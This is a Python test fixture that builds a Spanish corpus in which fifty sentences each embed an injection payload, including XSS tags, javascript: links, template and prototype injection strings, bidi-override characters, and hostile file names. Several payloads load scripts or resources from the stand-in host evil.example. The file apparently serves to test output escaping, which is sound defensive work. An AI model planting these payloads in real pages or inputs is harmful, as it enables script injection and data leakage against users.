"""Fifty texts that an article should never have held, as a corpus of their own."""

from __future__ import annotations

from pathlib import Path

PAYLOADS = [
    "<script>window.pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=\"window.pwned=1\">",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe src=\"javascript:window.pwned=1\"></iframe>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>",
    "<body onload=window.pwned=1>",
    "<a href=\"javascript:window.pwned=1\">pulsa</a>",
    "<a href=https://evil.example/ target=_blank>pulsa</a>",
    "<form action=https://evil.example/><button>enviar</button></form>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<marquee onstart=window.pwned=1>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></math>",
    "<template><script>window.pwned=1</script></template>",
    "<style>*{background:url(https://evil.example/css)}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/b>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/o></object>",
    "<embed src=https://evil.example/e>",
    "</textarea><script>window.pwned=1</script>",
    "</title></style></script><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "\"><script>window.pwned=1</script>",
    "'onmouseover='window.pwned=1",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.pwned=1&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "![pixel](https://evil.example/pixel.png)",
    "[pulsa](javascript:window.pwned=1)",
    "[pulsa](https://evil.example/)",
    "<https://evil.example/>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "`${window.pwned=1}`",
    "$& $1 $` {name} {text}",
    "__proto__ constructor toString hasOwnProperty",
    "\u202eelif nu ed erbmon\u202c",
    "\u2067\u202etxet desrever\u202c",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a zalgo",
    "ab\u200bcd\u2060ef\ufeffgh \u200f\u200e",
    "[000_60289b1f0715d09a.txt:1] [otra.txt:3-4] 【1】 [^1]",
]  # fmt: skip
# Names of files are other people's text too. (What a file system forbids can't come from there.)
NAMES = ["<img src=x onerror=pwned=1>.txt", '"><script>pwned=1<script>.txt', "\u202etxt.exe.txt", "[x](y) `z`.md"]
# One word for each text, so that a question finds it.
WORDS = [
    "abedul", "acebo", "álamo", "alcornoque", "algarrobo", "almendro", "arce", "avellano", "boj",
    "brezo", "caoba", "castaño", "cedro", "cerezo", "ciprés", "ciruelo", "ébano", "encina",
    "enebro", "espino", "eucalipto", "fresno", "granado", "haya", "higuera", "laurel", "limonero",
    "madroño", "magnolio", "manzano", "membrillo", "mimosa", "moral", "naranjo", "nogal", "olivo",
    "olmo", "palmera", "peral", "pino", "plátano", "quejigo", "roble", "romero", "sauce",
    "saúco", "tejo", "tilo", "tuya", "vid",
]  # fmt: skip


def sentence(i: int) -> str:
    """The line of text `i`."""
    return f"La inscripción grabada en el {WORDS[i]} dice exactamente {PAYLOADS[i]} según el guarda del parque."


def write(folder: Path) -> dict[str, list[str]]:
    """The corpus, in a few files with hostile names: lines by file. One file is long, one has CRLF and emoji."""
    folder.mkdir(parents=True)
    files: dict[str, list[str]] = {}
    for i in range(len(PAYLOADS)):
        files.setdefault(NAMES[i % len(NAMES)], []).append(sentence(i))
    for name, lines in files.items():
        (folder / name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    long = [""] * 1500
    long[699] = "El faro de la isla se encendió por primera vez en 1897."
    long[1399] = "El puerto quedó cerrado en 1931."
    files["largo.txt"] = long
    (folder / "largo.txt").write_text("\n".join(long), encoding="utf-8")
    mixed = [
        "👍🏽 𝒜 Un prólogo 🏳️‍🌈 con figuras.",
        "",
        "𝒜𝒷 El tranvía amarillo sube la cuesta de Brihuega 👍🏽 cada tarde. Otra cosa.",
    ]
    files["mixto.txt"] = mixed
    (folder / "mixto.txt").write_bytes("\r\n".join(mixed).encode())
    return files
